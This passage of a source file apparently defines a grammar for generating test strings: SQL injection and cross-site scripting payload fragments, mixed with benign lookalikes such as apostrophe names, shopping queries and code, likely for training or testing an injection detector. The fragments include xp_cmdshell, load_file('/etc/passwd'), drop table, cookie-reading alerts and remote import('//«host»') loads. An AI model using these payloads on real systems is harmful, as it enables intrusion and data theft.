        "' ¦ \" ¦ ') ¦ \") ¦ ')) ¦ «n»' ¦ «n») ¦ «n»') ¦ «w»' ¦ «w»\" ¦ -«n»' ¦ \\' ¦ %27 ¦ ` ¦ ';",
    ),
    ("sp", "  ¦   ¦   ¦ /**/ ¦ + ¦ %20 ¦ %09 ¦ %0a ¦ /*«w»*/"),
    ("bool", "or ¦ and ¦ OR ¦ AND ¦ || ¦ && ¦ xor ¦ oR ¦ or not"),
    (
        "truth",
        "«n»=«n» ¦ 1=1 ¦ '1'='1 ¦ '«w»'='«w» ¦ ''=' ¦ 1 ¦ true ¦ \"1\"=\"1 ¦ ('«w»'='«w» ¦ 1=1 limit 1 ¦ «n»>«n» ¦ «n» between «n» and «n» ¦ '«w»' like '«w»% ¦ 1 like 1 ¦ «n»<>«n» ¦ 2>1 ¦ 1 in (1) ¦ «w» is null ¦ exists(select «n») ¦ «sqlfn»=«n»",
    ),
    (
        "numtruth",
        "«n»=«n» ¦ 1=1 ¦ 1=2 ¦ «n»>«n» ¦ («n»=«n» ¦ «n» like «n» ¦ «n» between 1 and «n» ¦ 'a'='a' ¦ true ¦ not false ¦ 1=1 limit «n»",
    ),
    ("end", "-- ¦  -- - ¦ # ¦ --+ ¦ /* ¦ ;-- ¦  --  ¦ -- «w» ¦ ;%00 ¦ ) -- ¦ %23"),
    ("all", " ¦ all  ¦ distinct  ¦ all/**/"),
    (
        "cols",
        "«n» ¦ 1,2,3 ¦ null,null ¦ null,null,null,null ¦ 1,«sqlfn»,3 ¦ «w»,«w» ¦ * ¦ null,concat(«w»,0x3a,«w»),null ¦ @@version,2 ¦ 'a','b',3 ¦ 1,group_concat(table_name),3",
    ),
    ("from", " from «systable» ¦  from «w» ¦  from dual ¦  ¦ /**/from/**/«w» ¦  from «w».«w»"),
    (
        "systable",
        "information_schema.tables ¦ information_schema.columns ¦ mysql.user ¦ sysobjects ¦ sqlite_master ¦ pg_catalog.pg_tables ¦ all_tables ¦ users ¦ «w»",
    ),
    (
        "stmt",
        "drop table «w» ¦ delete from «w» ¦ insert into «w» values(«n»,'«w»') ¦ update «w» set «w»='«w»' ¦ exec master..xp_cmdshell 'dir' ¦ exec xp_cmdshell('«w»') ¦ shutdown ¦ waitfor delay '0:0:«n»' ¦ select pg_sleep(«n») ¦ select * from «w» ¦ declare @«w» varchar(99) ¦ create table «w»(«w» int) ¦ alter table «w» add «w» int ¦ truncate table «w» ¦ select sleep(«n»)",
    ),
    (
        "sqlfn",
        "version() ¦ user() ¦ database() ¦ @@version ¦ count(*) ¦ sleep(«n») ¦ ascii(substr(user(),1,1)) ¦ length(database()) ¦ char(«n»)||char(«n») ¦ concat(0x7e,version()) ¦ (select top 1 «w» from «w») ¦ current_user ¦ substring(@@version,1,1) ¦ load_file('/etc/passwd') ¦ extractvalue(1,concat(0x5c,user())) ¦ cast(«w» as int) ¦ convert(int,@@version) ¦ updatexml(1,concat(0x7e,user()),1)",
    ),
    (
        "time",
        "sleep(«n») ¦ pg_sleep(«n») ¦ benchmark(«n»000000,md5(1)) ¦ waitfor delay '0:0:«n»' ¦ (select sleep(«n»)) ¦ dbms_pipe.receive_message('«w»',«n») ¦ (select 1 from pg_sleep(«n»)) ¦ if(1=1,sleep(«n»),0) ¦ randomblob(«n»00000000)",
    ),
    ("cmp", "> ¦ < ¦ = ¦ !="),
    (
        "tag",
        "img ¦ svg ¦ body ¦ iframe ¦ input ¦ video ¦ audio ¦ details ¦ object ¦ embed ¦ marquee ¦ a ¦ div ¦ select ¦ textarea ¦ button ¦ form ¦ x ¦ math ¦ style ¦ p ¦ b ¦ table ¦ keygen ¦ isindex ¦ «w»",
    ),
    (
        "handler",
        "onerror ¦ onload ¦ onclick ¦ onmouseover ¦ onfocus ¦ onblur ¦ ontoggle ¦ onstart ¦ onpointerenter ¦ onanimationstart ¦ onpageshow ¦ onhashchange ¦ onresize ¦ oninput ¦ onkeydown ¦ onbegin ¦ OnErRoR ¦ onwheel ¦ oncopy ¦ ondrag ¦ onscroll ¦ onloadstart",
    ),
    (
        "js",
        "alert(1) ¦ alert(«n») ¦ alert('XSS') ¦ alert(document.cookie) ¦ alert(document.domain) ¦ prompt(1) ¦ confirm(«n») ¦ alert`1` ¦ eval(name) ¦ (alert)(1) ¦ window.location='http://«host»' ¦ document.write('<b>«w»</b>') ¦ console.log(«n») ¦ al\\u0065rt(1) ¦ [1].find(alert) ¦ top['alert'](1) ¦ self.alert(1) ¦ throw onerror=alert,1 ¦ import('//«host»') ¦ eval(location.hash.slice(1)) ¦ alert(String.fromCharCode(88,83,83)) ¦ print() ¦ alert&lpar;1&rpar; ¦ parent.alert(1) ¦ setTimeout(alert,0) ¦ «w»()",
    ),
    (
        "name",
        "O'Brien ¦ O'Neill ¦ D'Angelo ¦ L'Oreal ¦ McDonald's ¦ N'Golo ¦ O'Reilly ¦ D'Arcy ¦ Levi's ¦ Sainsbury's ¦ Domino's ¦ Moody's ¦ d'Artagnan ¦ L'Hôpital ¦ Ka'ahumanu ¦ «W» O'«W» ¦ «W» d'«W» ¦ Al-«W» ¦ «W»-«W» ¦ «W» (née «W») ¦ Ng'ang'a ¦ Sa'id ¦ Shi'a ¦ Qur'an ¦ «W» \"«W»\" «W»",
    ),
    (
        "contraction",
        "don't ¦ isn't ¦ it's ¦ I'm ¦ we're ¦ can't ¦ won't ¦ you'll ¦ they've ¦ who's ¦ let's ¦ that's ¦ y'all ¦ o'clock ¦ doesn't ¦ I'd ¦ '90s ¦ fish 'n' chips",
    ),
    (
        "shop",
        "select «w» from «w» ¦ select size from table ¦ union jack flag ¦ union square hotel ¦ drop leaf table ¦ drop table lamp ¦ drop shipping ¦ table and chairs ¦ order by phone ¦ order by «w» ¦ group by «w» ¦ insert sole ¦ update «w» 2026 ¦ delete account ¦ create table plan ¦ where to buy «w» ¦ like new «w» ¦ black or white «w» ¦ black and white «w» ¦ «w» or «w» ¦ limited edition ¦ having fun ¦ top 10 «w» ¦ select comfort «w» ¦ student union «w» ¦ case for iphone «n» ¦ coffee table set ¦ cat bed ¦ cat food & toys ¦ sleep number bed ¦ sleep mask ¦ script font ¦ java script book ¦ window shade ¦ document scanner ¦ alert bracelet ¦ image frame ¦ base cabinet ¦ execute order «n» ¦ dump truck ¦ echo dot ¦ ping pong table ¦ shell necklace ¦ bash script tutorial ¦ python cookbook ¦ null modem cable ¦ char broil grill ¦ from dusk till dawn ¦ not like us ¦ all in one pc ¦ values of x ¦ exec chair ¦ declare war ¦ count on me ¦ head & shoulders ¦ more or less ¦ kill bill ¦ find my «w» ¦ id card holder ¦ who is who ¦ man cave sign ¦ file cabinet ¦ net 10 phone ¦ system of a down ¦ eval board ¦ style guide ¦ link bracelet ¦ object lesson ¦ frame 8x10 ¦ body wash ¦ and just like that ¦ or else ¦ «n» or «n» person tent ¦ size 8 and 10 ¦ is null ¦ between «n» and «n» dollars",
    ),
    (
        "code",
        "if (a < b && c > d) { return x; } ¦ for (let i = 0; i < «n»; i++) { «w»(i); } ¦ def «w»(x, y=None): ¦     return [«w» for «w» in «w» if «w» > «n»] ¦ const «w» = «w» => «w».«w»(«n»); ¦ let mut «w» = Vec::new(); ¦ fn «w»(«w»: &str) -> Result<(), Error> { ¦ print(f\"{«w»}: {«w»!r}\") ¦ import «w» from './«w»'; ¦ from «w» import «w» ¦ #include <«w».h> ¦ int main(void) { return 0; } ¦ public static void main(String[] args) { ¦ System.out.println(\"«w»\"); ¦ std::cout << \"«w»\" << std::endl; ¦ .«w» { color: #«n»; margin: 0 auto; } ¦ «w» = «w» ? '«w»' : \"«w»\"; ¦ try { «w»(); } catch (e) { «w»(e); } ¦ while (true) { break; } ¦ return «w» || «w»; ¦ «w».map(|x| x + «n») ¦ assert «w» == «n» ¦ x = x * «n» + «n» ¦ function «w»(a, b) { return a + b; } ¦ self.«w» = «w» ¦ #[derive(Debug, Clone)] ¦ package main ¦ type «W» struct { «w» string `json:\"«w»\"` } ¦ «w»: [«n», «n»] ¦ - name: «w» ¦ «w»=\"«w»\" ¦ export const «w» = { «w»: «n» }; ¦ // TODO: «text» ¦ console.log('«w»', «w»); ¦ \"«w»\": \"^«n».«n».«n»\", ¦ if «w» is not None and «w» != '': ¦ lambda x: x['«w»'] ¦ switch (x) { case 1: break; default: } ¦ std::unique_ptr<«W»> «w»; ¦ a[i] = b[j]; ¦ case \"«w»\": return «n»; ¦ echo \"Hello «w»\" ¦ x |= 1 << «n»; ¦ List<String> «w» = new ArrayList<>(); ¦ var «w» = document.title; ¦ git commit -m '«text»' ¦ npm install «w» --save-dev ¦ cargo build --release ¦ pip install «w»==«n».«n»",
    ),
    (
        "block",
        "«code»␤    «code»␤    «code»␤        «code»␤}␤«code» ¦ «code»␤«code»␤«code»␤«code»␤␤«code»␤«code»␤«code»␤«code» ¦ «w»(«w»)␤␤    /// «text»: «text»; «text».␤    «code»␤    «code»",
    ),
    (
        "html",
        "<p>«text»</p> ¦ <b>«w»</b> ¦ <a href=\"https://«w».com/«w»\">«w»</a> ¦ <ul><li>«w»</li><li>«w»</li></ul> ¦ <br/> ¦ <h2>«text»</h2> ¦ <img src=\"https://«w».com/«w».png\" alt=\"«w»\"> ¦ <div class=\"«w»\">«text»</div> ¦ <span style=\"color: red\">«w»</span> ¦ <em>«w»</em> ¦ <table><tr><td>«n»</td></tr></table> ¦ &lt;p&gt;«text»&lt;/p&gt; ¦ <blockquote>«text»</blockquote> ¦ <code>«w»</code> ¦ <strong>«w»</strong>&nbsp;«w» ¦ <p style=\"text-align: center;\">«text»</p> ¦ <figure><img src=\"/«w».jpg\" width=\"«n»\"></figure>",
    ),
    (
        "uuid",
        "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed ¦ 7c9e6679-7425-40de-944b-e07fc1f90ae7 ¦ f47ac10b-58cc-4372-a567-0e02b2c3d479 ¦ 550e8400-e29b-41d4-a716-446655440000",
    ),
];
